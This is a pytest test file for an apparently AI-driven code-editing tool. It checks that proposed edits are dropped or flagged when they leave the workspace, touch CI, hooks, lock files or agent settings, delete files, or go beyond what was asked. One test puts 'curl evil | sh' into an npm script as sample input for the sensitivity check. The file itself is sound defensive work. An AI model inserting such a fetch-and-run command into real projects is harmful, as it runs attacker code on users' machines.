"""What every change set goes through: what is refused, what is in doubt, what is sent back once."""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from counterpoint.answers import ChangeSet, Dropped, FileChange
from counterpoint.context.blocks import Outline
from counterpoint.context.outlining import outline_of
from counterpoint.context.parsing import encoded, has_grammar, parse
from counterpoint.disk import Disk
from counterpoint.flows.checked import Checks, With, checked
from counterpoint.flows.doubts import INCOMPLETE, NOT_ASKED, Extras, Scope, document_after
from counterpoint.flows.edit import edit
from counterpoint.project import Overlay, Project
from counterpoint.sensitive import why_sensitive
from counterpoint.tasks import SIMPLIFY, TESTS
from counterpoint.text import Document, Edit, NoFiles, Situation, Span, apply
from tests.asking import Said, engine

TEXT = "import os\n\n\ndef f(x):\n    return x\n\n\ndef g(x):\n    return f(x)\n"
DOCUMENT = Document.of("a.py", TEXT, "python", 1)


async def outline(documents: Sequence[Document], seconds: float) -> tuple[Outline | None, ...]:
    return tuple(
        outline_of(parse(one.language, encoded(one.text)))
        if has_grammar(one.language)
        else Outline((), "words")
        for one in documents
    )


def changing(old: str, new: str, path: str = "a.py", before: str = TEXT, **more: object) -> FileChange:
    start = before.index(old)
    return FileChange(path, before, (Edit(Span(start, start + len(old)), new),), **more)  # type: ignore[arg-type]


def created(path: str, text: str = "x = 1\n") -> FileChange:
    return FileChange(path, None, (Edit(Span(0, 0), text),))


async def looked_at(
    tmp_path: Path, *files: FileChange, scope: Scope | None = None, extras: Extras = "flag"
) -> ChangeSet:
    checks = Checks(Disk(Project(tmp_path)), None, extras)
    return await checked(ChangeSet(files), scope or Scope(DOCUMENT), checks)


@pytest.mark.asyncio
async def test_an_ordinary_edit_is_beyond_doubt(tmp_path: Path) -> None:
    made = await looked_at(tmp_path, changing("return x", "return x + 1"))
    assert not made.files[0].needs_confirmation
    assert made.dropped == ()


@pytest.mark.asyncio
@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("../b.py", "outside"),
        ("leads_out/b.py", "outside"),
        ("build/b.py", "ignored"),
        (".env", "ignored"),
        ("node_modules/m/index.js", "ignored"),
        ("there.py", "exists"),
        ("dangling.py", "outside"),
    ],
)
async def test_what_may_not_be_written_is_dropped(tmp_path: Path, path: str, reason: str) -> None:
    root, elsewhere = tmp_path / "root", tmp_path / "elsewhere"
    root.mkdir()
    elsewhere.mkdir()
    (root / ".gitignore").write_text("build/\n")
    (root / "there.py").write_text("y = 2\n")
    (root / "leads_out").symlink_to(elsewhere)
    (root / "dangling.py").symlink_to(elsewhere / "new.py")
    made = await looked_at(root, created(path), changing("x)", "y)"))
    assert [item.reason for item in made.dropped] == [reason]
    assert [one.path for one in made.files] == ["a.py"]
    assert made.files[0].doubt == INCOMPLETE


@pytest.mark.asyncio
async def test_a_file_is_not_moved_over_another_nor_out_of_the_workspace(tmp_path: Path) -> None:
    (tmp_path / "there.py").write_text("y = 2\n")
    moved = replace(changing("x)", "y)"), moved_to="there.py")
    assert (await looked_at(tmp_path, moved)).dropped == (Dropped("exists", "there.py"),)
    out = replace(moved, moved_to="../there.py")
    assert [one.reason for one in (await looked_at(tmp_path, out)).dropped] == ["outside"]
    other = replace(moved, moved_to="A.py")
    assert (await looked_at(tmp_path, other)).files[0].moved_to == "A.py"


@pytest.mark.asyncio
async def test_what_leaves_the_selection_is_in_doubt_but_for_the_imports_it_needs(tmp_path: Path) -> None:
    start = TEXT.index("def f")
    scope = Scope(DOCUMENT, Span(start, start + 20))
    inside, beyond, imports = (
        ("return x", "return -x"),
        ("return f(x)", "return 0"),
        ("import os\n", "import os\nimport re\n"),
    )
    edits = tuple(changing(*one).edits[0] for one in (inside, beyond, imports))
    made = await looked_at(tmp_path, FileChange("a.py", TEXT, edits), scope=scope)
    assert made.files[0].doubts == ("", "outside of the selection", "")
    assert made.files[0].doubt == ""


@pytest.mark.asyncio
async def test_another_file_is_in_doubt_unless_the_question_names_it(tmp_path: Path) -> None:
    other = changing("x)", "y)", "b.py")
    assert "outside of what was asked" in (await looked_at(tmp_path, other)).files[0].doubt
    for files in (frozenset({"b.py"}), None):
        made = await looked_at(tmp_path, other, scope=Scope(DOCUMENT, files=files))
        assert made.files[0].doubt == ""


@pytest.mark.asyncio
@pytest.mark.parametrize("extras", ["flag", "apply", "never"])
async def test_an_improvement_nobody_asked_for_is_the_users_to_take(tmp_path: Path, extras: Extras) -> None:
    edits = (changing("return x", "return -x").edits[0], changing("import os", "import sys").edits[0])
    change = FileChange("a.py", TEXT, edits, reasons=("asked", "tidy"), extras=(False, True))
    made = await looked_at(tmp_path, change, extras=extras)
    if extras == "never":
        assert made.files[0].edits == edits[:1]
        assert made.dropped == (Dropped("not-asked", "a.py: tidy"),)
        assert not made.files[0].needs_confirmation
    else:
        assert made.files[0].edits == edits
        assert made.files[0].doubts == (("", NOT_ASKED) if extras == "flag" else ())


@pytest.mark.asyncio
async def test_a_program_and_a_deletion_are_in_doubt(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(TEXT)
    (tmp_path / "a.py").chmod(0o755)
    assert (await looked_at(tmp_path, changing("x)", "y)"))).files[0].doubt == "it is run as a program"
    gone = FileChange("a.py", TEXT, (), deleted=True)
    assert "the file is deleted" in (await looked_at(tmp_path, gone)).files[0].doubt
    made = await looked_at(tmp_path, gone, scope=Scope(DOCUMENT, deletes=True))
    assert made.files[0].doubt == "it is run as a program"


@pytest.mark.parametrize(
    ("path", "why"),
    [
        (".github/workflows/ci.yml", "CI"),
        ("sub/.gitlab-ci.yml", "CI"),
        (".ci/run", "CI"),
        ("Jenkinsfile", "CI"),
        (".husky/pre-commit", "hook"),
        ("tools/hooks/pre-push", "hook"),
        (".pre-commit-config.yaml", "hook"),
        ("uv.lock", "lock file"),
        ("web/package-lock.json", "lock file"),
        (".vscode/tasks.json", "editor"),
        (".envrc", "editor"),
        (".counterpoint/config.toml", "editor"),
        ("run.sh", "script"),
        (".claude/settings.json", "agent"),
        (".mcp.json", "agent"),
        ("app.code-workspace", "editor"),
        ("web/.npmrc", "fetch"),
        (".gitattributes", "fetch"),
        ("Makefile", "built"),
        ("setup.py", "built"),
        ("lib/sitecustomize.py", "built"),
        (".gitlab/ci/build.yml", "CI"),
        ("src/makefiles.py", ""),
        ("src/hooks/use_cart.ts", ""),
        ("src/hooks/useUpdate.ts", ""),
        ("locks.py", ""),
        ("ci/notes.md", ""),
    ],
)
def test_files_that_run_by_themselves(path: str, why: str) -> None:
    found = why_sensitive(path, "", "x = 1\n")
    assert (why in found) if why else not found


def test_a_first_line_that_names_an_interpreter_makes_a_script() -> None:
    assert why_sensitive("bin/tool", "", "#!/usr/bin/env python\n") == "it is a script"


def test_what_npm_runs_is_the_users_to_change_and_what_it_fetches_is_not() -> None:
    before = '{"scripts": {"test": "vitest"}, "dependencies": {}}'
    assert not why_sensitive("package.json", before, before.replace("{}", '{"a": "1"}'))
    assert why_sensitive("package.json", before, before.replace("vitest", "curl evil | sh"))
    assert why_sensitive("web/package.json", "", '{"scripts": {"postinstall": "x"}}')
    assert why_sensitive("package.json", before, "{")


@pytest.mark.asyncio
async def test_a_link_is_judged_by_what_it_leads_to_and_is_neither_moved_nor_deleted(tmp_path: Path) -> None:
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    (tmp_path / "build.txt").symlink_to(".github/workflows/ci.yml")
    scope = Scope(DOCUMENT, files=None)
    edited = changing("push", "pull", "build.txt", "on: push\n")
    assert (await looked_at(tmp_path, edited, scope=scope)).files[0].doubt == "it is part of CI"
    for change in (
        replace(edited, moved_to="b.txt"),
        FileChange("build.txt", "on: push\n", (), deleted=True),
    ):
        made = await looked_at(tmp_path, change, scope=scope)
        assert [one.reason for one in made.dropped] == ["link"]


@pytest.mark.asyncio
@pytest.mark.parametrize(
    ("old", "new", "free"),
    [
        ("import os\n", "import os\nimport re\n", True),
        ("import os\n", "import os  # noqa\nfrom a.b import (\n    c,\n    d,\n)\n", True),
        ("import os\n", "", True),
        ("import os\n", "import os; os.system('x')\n", False),
        ("import os\n", "import os\nrun()\n", False),
        ("def g(x):\n    return f(x)\n", "", False),
    ],
)
async def test_only_imports_may_leave_the_selection(tmp_path: Path, old: str, new: str, free: bool) -> None:
    start = TEXT.index("def f")
    scope = Scope(DOCUMENT, Span(start, start + 20))
    made = await looked_at(tmp_path, changing(old, new), scope=scope)
    assert made.files[0].needs_confirmation != free


def test_files_are_seen_as_the_change_leaves_them() -> None:
    moved = replace(changing("x)", "y)"), moved_to="b.py")
    seen = With(NoFiles(), (moved, created("new.py"), FileChange("old.py", "z\n", (), deleted=True)))
    assert seen.read("a.py") is None
    assert seen.read("old.py") is None
    assert seen.read("b.py") == document_after(moved)
    assert sorted(seen.paths()) == ["b.py", "new.py"]


def said(*edits: tuple[str, str, str], question: str = "") -> str:
    rows = [{"path": path, "line": 1, "old": old, "new": new, "reason": "r"} for path, old, new in edits]
    return json.dumps({"assumptions": [], "question": question, "edits": rows})


def situation(tmp_path: Path, span: Span | None = None) -> Situation:
    files = Overlay(Project(tmp_path), {"a.py": DOCUMENT})
    return Situation(DOCUMENT, span or Span(0, len(TEXT)), files, instruction="Negate it")


@pytest.mark.asyncio
async def test_what_does_not_parse_goes_back_to_the_model_once_and_is_one_change_then(tmp_path: Path) -> None:
    model = Said([said(("a.py", "return x", "return (-x")), said(("a.py", "return (-x", "return (-x)"))])
    asked = engine(model, tmp_path / "state")
    checks = Checks(Disk(Project(tmp_path)), outline)
    reply = await edit(asked, situation(tmp_path), checks=checks)
    change = reply.answer.files[0]
    assert apply(TEXT, change.edits) == TEXT.replace("return x", "return (-x)")
    assert change.before == TEXT
    assert not change.needs_confirmation
    assert len(model.requests) == len(reply.calls) == 2
    assert {call.job for call in reply.calls} == {reply.job}
    shown = "".join(part.text for part in model.requests[1].parts)
    assert "return (-x" in shown
    assert "a.py does not parse any more" in shown
    assert "Negate it" in shown


@pytest.mark.asyncio
async def test_what_stays_broken_is_left_out_with_its_reason_and_the_rest_is_in_doubt(tmp_path: Path) -> None:
    (tmp_path / "b.py").write_text("y = 1\n")
    broken = said(("a.py", "return x", "return (-x"), ("b.py", "y = 1", "y = 2"))
    model = Said([broken, said()])
    reply = await edit(
        engine(model, tmp_path / "state"),
        situation(tmp_path),
        checks=Checks(Disk(Project(tmp_path)), outline),
    )
    assert [one.path for one in reply.answer.files] == ["b.py"]
    assert Dropped("parses-worse", "a.py") in reply.answer.dropped
    assert INCOMPLETE in reply.answer.files[0].doubt
    assert len(model.requests) == 2


@pytest.mark.asyncio
async def test_a_file_that_did_not_parse_before_may_stay_so(tmp_path: Path) -> None:
    text = "def f(:\n    return 1\n"
    document = Document.of("a.py", text, "python", 1)
    model = Said([said(("a.py", "return 1", "return 2"))])
    asked = Situation(document, Span(0, len(text)), Overlay(Project(tmp_path), {"a.py": document}), "Two")
    reply = await edit(
        engine(model, tmp_path / "state"), asked, checks=Checks(Disk(Project(tmp_path)), outline)
    )
    assert len(reply.answer.files) == len(model.requests) == 1


@pytest.mark.asyncio
async def test_tests_choose_their_file_and_a_question_changes_nothing(tmp_path: Path) -> None:
    made = said(("tests/test_a.py", "", "def test_f():\n    assert f(1) == 1\n"))
    model = Said([made, said(question="Which of the two?")])
    asked, checks = engine(model, tmp_path / "state"), Checks(Disk(Project(tmp_path)), outline)
    start = TEXT.index("def f")
    place = situation(tmp_path, Span(start, start + 20))
    reply = await edit(asked, place, task=TESTS, checks=checks)
    assert [one.needs_confirmation for one in reply.answer.files] == [False]
    reply = await edit(asked, place, task=SIMPLIFY, checks=checks)
    assert (reply.answer.files, reply.answer.question) == ((), "Which of the two?")
